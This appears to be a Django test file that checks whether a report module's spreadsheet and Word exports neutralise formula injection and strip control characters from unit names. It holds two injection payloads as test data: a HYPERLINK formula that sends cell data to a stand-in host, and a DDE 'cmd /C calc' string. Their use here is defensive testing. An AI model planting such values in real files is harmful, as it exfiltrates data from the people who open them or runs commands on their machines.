"""A report's files carry the names offices typed, whatever they hold: the spreadsheet writes
them as text that no spreadsheet computes (OWASP, CSV injection), and the Word document
leaves out the control characters Word cannot read, rather than failing to be written."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import docx
from django.test import TestCase

from xeploai.core.testing import make_cycle, make_evaluation, make_member, make_personas
from xeploai.cycles.models import Level, Status
from xeploai.formats_safe import formula_like
from xeploai.imports.tests.spreadsheet import cells
from xeploai.reports import exports
from xeploai.reports.data import report
from xeploai.units.models import Unit

COMMUNE = '=HYPERLINK("http://x.example/?d="&A1,"Bấm")\x0bxã'
DISTRICT = "-1+cmd|' /C calc'!A0\x1f"
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


class ExportsSafeTestCase(TestCase):
    def setUp(self) -> None:
        self.p = make_personas()
        cycle = make_cycle(2025, closed=True)
        for level in (Level.EXCELLENT, Level.GOOD):
            member = make_member(self.p.cell_a, full_member_since=dt.date(2011, 5, 19))
            make_evaluation(member, cycle, status=Status.CLASSIFIED, level_final=level)
        Unit.objects.filter(pk=self.p.commune.pk).update(name=COMMUNE)
        Unit.objects.filter(pk=self.p.district.pk).update(name=DISTRICT)
        self.data = report(Unit.objects.get(pk=self.p.commune.pk), cycle)

    def test_the_spreadsheet_writes_names_as_text_never_formulas(self) -> None:
        found = cells(exports.xlsx(self.data))
        self.assertEqual([c for c in found if c.formula], [])
        texts = [c for c in found if not c.number]
        self.assertEqual([c for c in texts if formula_like(c.text) and not c.quote_prefix], [])
        self.assertIn(COMMUNE.upper(), [c.text for c in texts if c.quote_prefix])
        self.assertIn(DISTRICT.upper(), [c.text for c in texts if c.quote_prefix])

    def test_the_word_document_leaves_out_what_word_cannot_read(self) -> None:
        content = exports.docx(self.data)
        xml = zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml").decode()
        self.assertIsNone(CONTROL.search(xml))
        document = docx.Document(io.BytesIO(content))
        head = [p.text for c in document.tables[0].rows[0].cells for p in c.paragraphs]
        self.assertEqual(
            head[:2],
            ["-1+CMD|' /C CALC'!A0", '=HYPERLINK("HTTP://X.EXAMPLE/?D="&A1,"BẤM") XÃ'],
        )
